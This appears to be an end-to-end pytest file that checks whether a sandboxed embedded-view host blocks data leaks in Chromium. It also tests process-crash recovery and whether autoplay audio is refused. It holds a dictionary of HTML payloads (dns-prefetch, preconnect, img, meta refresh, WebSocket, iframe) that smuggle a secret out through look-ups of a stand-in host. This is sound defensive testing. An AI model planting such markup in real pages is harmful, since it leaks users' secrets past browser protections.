"""What only a browser without a test driver's switches does: connections and look-ups ahead of
time, and the end of a view's process.
"""

import time
from pathlib import Path

import pytest

from e2e.conftest import chromium_path
from e2e.exfiltration import hostile
from e2e.exfiltration.host import BARE, page, unprotected_host
from e2e.exfiltration.listeners import CONNECTED, Listeners
from e2e.exfiltration.plain import Tab, plain_chromium
from e2e.exfiltration.ways import BY_NAME
from e2e.exfiltration.ways.way import Way

AHEAD = ["link-preconnect", "link-dns-prefetch", "speculation-prefetch", "speculation-prerender"]
# What carries a secret away is the look-up of a name that was made for it. Each of these is looked
# up where nothing stops it.
BY_NAME_ALONE = {
    "dns": '<link rel="dns-prefetch" href="//$NAME">',
    "preconnect": '<link rel="preconnect" href="http://$NAME">',
    "refresh": '<meta http-equiv="refresh" content="1;url=http://$NAME/">',
    "picture": '<img src="http://$NAME/">',
    "script": "<script>setTimeout(() => { location = 'http://$NAME/'; }, 1000)</script>",
    "control": '<meta http-equiv="x-dns-prefetch-control" content="on">'
    '<link rel="dns-prefetch" href="http://$NAME">',
    "socket": "<script>new WebSocket('ws://$NAME/')</script>",
    "frame": '<iframe src="http://$NAME/"></iframe>',
    "srcdoc": "<iframe srcdoc=\"<link rel='dns-prefetch' href='//$NAME'>\"></iframe>",
}
VICTIM_AND_KILLER = ["history-state", "webrtc-srcdoc"]
SECONDS = 5.0
SLOTS = "document.querySelectorAll('.panel-slot')"
STATES = f"[...{SLOTS}].map(s => s.querySelector('[data-panel]')?.dataset.panelState ?? '')"
NOTICES = (
    f"[...{SLOTS}].map(s => s.querySelector('[data-note=alive], [data-note=startup]')?.textContent)"
)


# A sixteenth of a second of nothing: what counts is whether the browser lets it be played.
SOUND = """const rate = 8000, data = new Uint8Array(44 + 500).fill(128);
const see = new DataView(data.buffer);
const text = (at, said) => [...said].forEach((c, i) => see.setUint8(at + i, c.charCodeAt(0)));
text(0, "RIFF"); see.setUint32(4, 536, true); text(8, "WAVEfmt "); see.setUint32(16, 16, true);
see.setUint16(20, 1, true); see.setUint16(22, 1, true); see.setUint32(24, rate, true);
see.setUint32(28, rate, true); see.setUint16(32, 1, true); see.setUint16(34, 8, true);
text(36, "data"); see.setUint32(40, 500, true);
const sound = new Audio(URL.createObjectURL(new Blob([data], {type: "audio/wav"})));
const said = await sound.play().then(() => "it plays", (error) => "refused: " + error.name);
parent.postMessage({jsonrpc: "2.0", method: "notifications/message",
  params: {level: "info", data: said}}, "*");"""


def secret_name(way: str, where: str) -> str:
    return f"hunter2-{way}-{where}.leak.example"


def named(where: str) -> list[hostile.View]:
    started = BY_NAME["history-state"].document(9)  # starts as every view does, and stays
    return [
        hostile.View(f"named-{way}", started + html.replace("$NAME", secret_name(way, where)))
        for way, html in BY_NAME_ALONE.items()
    ]


def unfold(tab: Tab, url: str) -> None:
    """Open a session's page and scroll each panel into sight, one after the other."""
    tab.go(url)
    for number in range(int(tab.evaluate(f"{SLOTS}.length"))):
        tab.evaluate(f"{SLOTS}[{number}].scrollIntoView({{block: 'center'}})")
        tab.until(f"['ready', 'closed'].includes({STATES}[{number}])")


@pytest.fixture
def browser_folder(tmp_path: Path) -> Path:
    return tmp_path / "browser"


def test_nothing_is_connected_or_looked_up_ahead_of_time(
    tmp_path: Path, browser_folder: Path
) -> None:
    with Listeners(AHEAD) as listeners:
        ways = [BY_NAME[name] for name in AHEAD]
        documents = {way.name: way.document(listeners.ports[way.name]) for way in ways}
        documents |= {view.name: view.html for view in named("bare")}
        groups = [hostile.of(ways, listeners), named("vitrine")]
        with (
            hostile.theatre(tmp_path / "vitrine", groups) as theatre,
            unprotected_host(documents) as base,
            plain_chromium(chromium_path(), browser_folder) as browser,
        ):
            tab = browser.tab()
            tab.go(base + page(BARE, documents))
            time.sleep(SECONDS)
            control = listeners.heard()
            tab.close()
            listeners.forget()
            tab = browser.tab()
            tab.go(theatre.running.link)
            for url in theatre.sessions:
                unfold(tab, url)
                time.sleep(SECONDS)
            heard = listeners.heard()
        assert control == {"link-preconnect": {CONNECTED}}
        assert heard == {}
    looked_up = {name for name in browser.looked_up() if name.endswith(".leak.example")}
    assert looked_up == {secret_name(way, "bare") for way in BY_NAME_ALONE}, browser.looked_up()


def test_a_view_whose_process_ends_is_reported_and_can_be_reloaded(
    tmp_path: Path, browser_folder: Path
) -> None:
    """The browser itself ends the process of a view that brings WebRTC in by a frame's markup; a
    view that shares it goes too. The page, and what is on it, stays.
    """
    with Listeners(VICTIM_AND_KILLER) as listeners:
        views = hostile.of([BY_NAME[name] for name in VICTIM_AND_KILLER], listeners)
        with (
            hostile.theatre(tmp_path / "vitrine", [views]) as theatre,
            plain_chromium(chromium_path(), browser_folder) as browser,
        ):
            tab = browser.tab()
            tab.go(theatre.running.link)
            tab.go(theatre.sessions[0])
            tab.evaluate("window.own = 'kept'")
            for number in range(len(views)):
                tab.evaluate(f"{SLOTS}[{number}].scrollIntoView({{block: 'center'}})")
                tab.until(f"{STATES}[{number}] !== ''")
            for number in range(len(views)):
                tab.until(f"{NOTICES}[{number}]?.includes('The view does not answer.')")
            assert tab.evaluate("window.own") == "kept"
            assert not tab.crashed
            # The one that died with the other comes back, and is alive.
            tab.evaluate(f"{SLOTS}[0].querySelector('[data-note=alive] button').click()")
            tab.until(f"{STATES}[0] === 'ready' && !{NOTICES}[0]")
            tab.evaluate(f"{SLOTS}[0].querySelector('.panel-vitals summary').click()")
            tab.until(
                f"{SLOTS}[0].querySelector('.panel-vitals').textContent"
                ".includes('Its document answers')"
            )
            # The whole page too: what it shows is the server's.
            tab.evaluate("location.reload()")
            tab.until("window.own === undefined && document.readyState === 'complete'")
            tab.until(f"{SLOTS}.length === {len(views)}")
        assert listeners.heard() == {}


def test_a_view_makes_no_sound_before_it_was_pressed(tmp_path: Path, browser_folder: Path) -> None:
    """Playwright's own looks into a view count as a press; here nobody presses anything."""
    view = hostile.View("sound", Way("sound", script=SOUND).document(9))
    with (
        hostile.theatre(tmp_path / "vitrine", [[view]]) as theatre,
        plain_chromium(chromium_path(), browser_folder) as browser,
    ):
        tab = browser.tab()
        tab.go(theatre.running.link)
        unfold(tab, theatre.sessions[0])
        tab.until("document.querySelector('.panel-log summary')")
        tab.evaluate("document.querySelector('.panel-log').open = true")
        tab.until("document.querySelector('.panel-log li')")
        said = tab.evaluate("document.querySelector('.panel-log').innerText")
        assert "refused: NotAllowedError" in said
